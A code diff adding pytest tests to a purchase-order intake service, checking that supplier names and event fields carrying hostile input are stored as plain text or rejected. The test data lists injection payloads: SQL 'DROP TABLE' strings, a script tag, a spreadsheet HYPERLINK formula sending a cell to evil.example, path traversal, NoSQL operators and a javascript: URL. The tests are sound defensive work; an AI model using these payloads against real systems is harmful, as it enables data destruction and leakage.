@@ -5,11 +5,14 @@ from __future__ import annotations
 import json
 import threading
 from concurrent.futures import ThreadPoolExecutor
+from typing import Any
 
+import pytest
 from sqlalchemy import Engine
+from sqlmodel import Session, select
 
 from core.keys import po_notice_key
-from core.models import MessageStatus
+from core.models import MessageStatus, Supplier
 from core.po_events.intake import IntakeResult, handle_po_event
 from tests.core.po_events.conftest import TENANT, body_parameters, outbox, po_event
 
@@ -123,3 +126,85 @@ def test_the_same_event_handled_at_once_by_many_workers_is_one_notice(
     assert sorted(r.status for r in results) == ["duplicate"] * (workers - 1) + ["enqueued"]
     assert len({r.message_id for r in results}) == 1
     assert len(outbox(po_templates)) == 1
+
+
+INJECTIONS = [
+    "Robert'); DROP TABLE whatsapp_messages; --",
+    "{{1}} {{supplier_name}} {{total_amount}}",
+    "<script>alert('x')</script>",
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "\u202eFDP.exe",  # right-to-left override
+    "Ñandú 🐦 株式会社",
+    "x" * 200,
+]
+
+
+@pytest.mark.parametrize("hostile", INJECTIONS)
+def test_hostile_text_is_stored_and_sent_as_plain_text(po_templates: Engine, hostile: str) -> None:
+    """SQL, template placeholders, markup and formulas in the supplier's name are data:
+    the row holds them verbatim, they reach the supplier as literal text, nothing else
+    is touched."""
+    event = po_event()
+    event["supplier"]["name"] = hostile
+    result = handle_po_event(json.dumps(event), engine=po_templates, source="http")
+    assert result.status == "enqueued", result.reason
+    [row] = outbox(po_templates)
+    assert body_parameters(row)["supplier_name"] == hostile
+    assert row.body_text is not None and hostile in row.body_text
+    assert "{{" not in row.body_text.replace(hostile, "")  # no placeholder left unfilled
+    with Session(po_templates) as session:
+        supplier = session.exec(select(Supplier)).one()
+    assert supplier.name == hostile
+    # The table the SQL string names is still there and still has exactly this row.
+    assert handle_po_event(json.dumps(event), engine=po_templates, source="http").status == (
+        "duplicate"
+    )
+
+
+@pytest.mark.parametrize(
+    ("where", "value", "expected"),
+    [
+        ("po.number", "PO-1\nBCC: everyone", None),  # newlines collapse to one line
+        ("po.number", "45\x00001", "must not contain control characters"),
+        ("po.number", {"$ne": None}, "po.number must be text"),
+        ("tenant_id", "acme' OR '1'='1", "tenant_id: must be letters"),
+        ("tenant_id", "../other", "tenant_id: must be letters"),
+        ("supplier.phone", "+34 612 345 678; DROP TABLE suppliers", "supplier.phone"),
+        ("supplier.phone", ["+34612345678"], "supplier.phone must be text"),
+        ("supplier.language", "es'; --", "is not a language code"),
+        ("total.currency", "ZZZ", "'ZZZ' is not a currency code"),
+        ("total.currency", "XXX", "not a currency any country pays in"),
+        ("total.amount", {"value": 1}, "total.amount: must be a number"),
+        ("total.amount", "1e400", "not a number"),
+        ("total.amount", "9" * 5000, "is 5,000 characters long; that is not an amount"),
+        ("event_id", "e" * 129, "event_id is too long"),
+        ("document_url", "javascript:alert(1)", "document_url: must be an http(s) URL"),
+    ],
+)
+def test_hostile_fields_are_rejected_with_the_reason_or_made_harmless(
+    po_templates: Engine, where: str, value: Any, expected: str | None
+) -> None:
+    event = po_event()
+    target: dict[str, Any] = event
+    *parents, leaf = where.split(".")
+    for parent in parents:
+        target = target[parent]
+    target[leaf] = value
+    result = handle_po_event(json.dumps(event), engine=po_templates, source="rabbitmq")
+    if expected is None:
+        assert result.status == "enqueued"
+        [row] = outbox(po_templates)
+        assert row.po_number == "PO-1 BCC: everyone"
+        return
+    assert result.status == "rejected"
+    assert any(expected in problem for problem in result.problems), result.problems
+    assert outbox(po_templates) == []
+
+
+def test_an_unknown_currency_in_a_valid_event_writes_nothing(po_templates: Engine) -> None:
+    event = po_event(total={"amount": "10.00", "currency": "BTC"})
+    result = handle_po_event(event, engine=po_templates, source="http")
+    assert result.status == "rejected"
+    assert result.problems == ("total.currency: 'BTC' is not a currency code (use e.g. EUR, USD)",)
+    with Session(po_templates) as session:
+        assert session.exec(select(Supplier)).all() == []  # no half-written supplier either
